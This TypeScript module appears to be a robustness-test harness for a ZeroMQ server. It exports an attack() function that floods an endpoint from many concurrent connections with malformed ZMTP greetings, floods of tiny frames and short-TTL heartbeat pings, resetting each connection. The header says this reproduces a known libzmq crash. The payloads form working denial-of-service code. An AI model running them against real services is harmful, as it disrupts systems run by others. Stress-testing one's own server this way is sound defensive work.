/**
 * A stranger without any key, on this machine: it connects to a ZeroMQ endpoint with plain
 * `node:net`, writes garbage, ZMTP greeting fragments, whole greetings followed by floods of tiny
 * frames or heartbeat commands, and resets the connection (TCP) or closes it (ipc), over and over, from many connections
 * at once (the attack that aborted libzmq with ZMTP heartbeats on: libzmq #4364, #3937).
 */
import { connect, type NetConnectOpts } from 'node:net';

const greeting = Buffer.alloc(64);
greeting[0] = 0xff;
greeting[9] = 0x7f;
greeting[10] = 3;
greeting.write('NULL', 12);

function property(name: string, value: string): Buffer {
  const out = Buffer.concat([Buffer.of(name.length), Buffer.from(name), Buffer.alloc(4), Buffer.from(value)]);
  out.writeUInt32BE(Buffer.byteLength(value), 1 + name.length);
  return out;
}

const readyBody = Buffer.concat([Buffer.of(5), Buffer.from('READY'), property('Socket-Type', 'DEALER')]);
const ready = Buffer.concat([Buffer.of(0x04, readyBody.length), readyBody]);
// PING with a TTL of 0.1 s, the shortest a peer can ask for
const ping = Buffer.concat([Buffer.of(0x04, 7, 4), Buffer.from('PING'), Buffer.of(0, 1)]);
const tinyFrames = (n: number) => Buffer.concat(Array.from({ length: n }, (_, i) => Buffer.of(0x00, 1, i & 0xff)));
const flood = tinyFrames(20_000);

const payloads = [
  Buffer.from([0xff, 0x13, 0x37]),
  greeting.subarray(0, 11),
  greeting,
  Buffer.concat([greeting, ready, tinyFrames(50)]),
  Buffer.concat([greeting, ready, ping, flood]),
  Buffer.concat([greeting, ready, flood, ping]),
  Buffer.from('GET / HTTP/1.1\r\n\r\n'),
];

/** Where to connect: `tcp://host:port` or `ipc://path`. */
function target(address: string): NetConnectOpts {
  if (address.startsWith('ipc://')) return { path: address.slice('ipc://'.length) };
  const m = /^tcp:\/\/(.+):(\d+)$/.exec(address);
  if (!m) throw new Error(`cannot attack ${address}`);
  return { host: m[1]!.replace(/^\[|\]$/g, ''), port: Number(m[2]) };
}

/** Attacks `address` for `ms` with `concurrency` connections at a time; resolves with how many connected. */
export async function attack(address: string, ms: number, concurrency = 8): Promise<number> {
  const to = target(address);
  const end = performance.now() + ms;
  let connected = 0;
  const worker = async (w: number): Promise<void> => {
    for (let i = w; performance.now() < end; i += concurrency) {
      await new Promise<void>((resolve) => {
        const socket = connect(to);
        socket.on('error', () => resolve());
        socket.on('close', () => resolve());
        socket.on('connect', () => {
          connected++;
          const payload = payloads[i % payloads.length]!;
          // some connections stay long enough for the server to answer, some are reset at once
          // a unix socket has no reset: it is simply closed
          const end = () => ('path' in to ? socket.destroy() : socket.resetAndDestroy());
          socket.write(payload, () => setTimeout(end, i % 3 === 0 ? 20 : 0));
        });
      });
    }
  };
  await Promise.all(Array.from({ length: concurrency }, (_, w) => worker(w)));
  return connected;
}
